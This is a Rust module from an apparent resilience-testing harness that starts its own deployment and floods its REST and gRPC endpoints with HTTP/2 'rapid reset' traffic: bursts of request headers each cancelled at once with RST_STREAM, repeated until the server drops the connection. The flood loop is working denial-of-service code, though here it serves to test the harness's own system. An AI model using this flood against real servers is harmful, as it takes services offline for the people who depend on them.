//! Clients that cancel each request as soon as they have sent it.

use std::net::SocketAddr;

use tokio::io::AsyncWriteExt as _;

use crate::{
    attack::{socket::connect, swarm::Swarm},
    deployment::{Deployment, Setup},
    figures::Figures,
    siege::{Siege, bounds},
    stage::Stage,
    support::http2::{HEADERS, PREFACE, RST_STREAM, SETTINGS, call_headers, frame},
};

/// How many requests are sent and cancelled in one write.
const BURST: u32 = 200;

/// The connections to each program.
const CONNECTIONS: usize = 4;

/// The code of a cancelled request (RFC 9113, 7).
const CANCEL: u32 = 8;

pub(crate) async fn run(stage: Stage) -> Figures {
    let deployment = Deployment::start(&stage, Setup::default()).await;
    let siege = Siege::begin(&deployment, &deployment.tenants[1..], 6).await;
    let batch = format!("/api/v2/cases/{}/tasks/batch", deployment.tenants[0].case_id);
    let call = "/caseload.tasks.v1.TaskService/BatchCreateTasks".to_owned();
    let mut swarm = Swarm::default();
    for (to, path) in [(deployment.rest, batch), (deployment.grpc, call)] {
        for _ in 0..CONNECTIONS {
            let (stage, path) = (stage.clone(), path.clone());
            swarm.add(move || flood(stage.clone(), to, path.clone()));
        }
    }
    swarm.attack_for(stage.attack).await;
    siege.end(deployment, bounds(&stage)).await
}

/// Sends and cancels requests until the other end closes the connection.
async fn flood(stage: Stage, to: SocketAddr, path: String) {
    let Ok(mut stream) = connect(stage.attacker, to).await else { return };
    if stream.write_all(&[PREFACE, SETTINGS].concat()).await.is_err() {
        return;
    }
    let block = call_headers(&path, &[]);
    let mut ids = (1..).step_by(2);
    loop {
        let mut burst = Vec::new();
        for id in ids.by_ref().take(BURST as usize) {
            burst.extend(frame(HEADERS, 4, id, &block));
            burst.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
        }
        if stream.write_all(&burst).await.is_err() {
            return;
        }
    }
}
